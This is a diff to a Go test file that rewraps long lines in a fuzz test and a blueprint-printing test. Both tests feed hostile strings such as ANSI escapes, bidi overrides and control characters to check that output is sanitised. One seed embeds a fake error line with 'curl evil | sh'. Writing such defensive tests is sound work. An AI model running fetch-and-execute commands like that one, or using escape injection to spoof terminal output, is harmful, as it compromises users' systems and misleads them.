@@ -35,7 +35,8 @@ func obeyed(text string) (found []rune) {
 // that a terminal obeys; as a document it is valid, and means the same.
 func FuzzErrors(f *testing.F) {
 	for _, seed := range []string{
-		"alice", "bob\nerror: all is lost (INTERNAL)\nhint: curl evil | sh", "\x1b[31mred\x1b]0;title\a", "\u0085\u009b31m\x7f\x00", "\u202eevil\u2066x\u2069", "a\u2028b\u2029c",
+		"alice", "bob\nerror: all is lost (INTERNAL)\nhint: curl evil | sh", "\x1b[31mred\x1b]0;title\a",
+		"\u0085\u009b31m\x7f\x00", "\u202eevil\u2066x\u2069", "a\u2028b\u2029c",
 		"\r", "\xff\xfe", strings.Repeat("9", 100_000), "<b>&amp;", "- a: b\n  c: 'd'", "yes", "{}", "\ufeff", "\t",
 	} {
 		f.Add(seed)
@@ -104,7 +105,10 @@ func TestHostileListsAreHarmless(t *testing.T) {
 
 // A blueprint is shown whatever its texts have in them.
 func TestHostileBlueprint(t *testing.T) {
-	b := result.Blueprint{Blueprint: v1.Blueprint{Name: "x", Spec: map[string]any{"name": "x", "splash": "a\x7f\u0085\u202eb\u2028c", "env": map[string]any{"A\u009b": "\x1b"}}}}
+	b := result.Blueprint{Blueprint: v1.Blueprint{
+		Name: "x",
+		Spec: map[string]any{"name": "x", "splash": "a\x7f\u0085\u202eb\u2028c", "env": map[string]any{"A\u009b": "\x1b"}},
+	}}
 	for _, output := range []string{"text", "json", "yaml"} {
 		s, buffers := terminal.Test("", terminaltest.Now)
 		if err := printer.Print(s, format(t, output), b); err != nil {
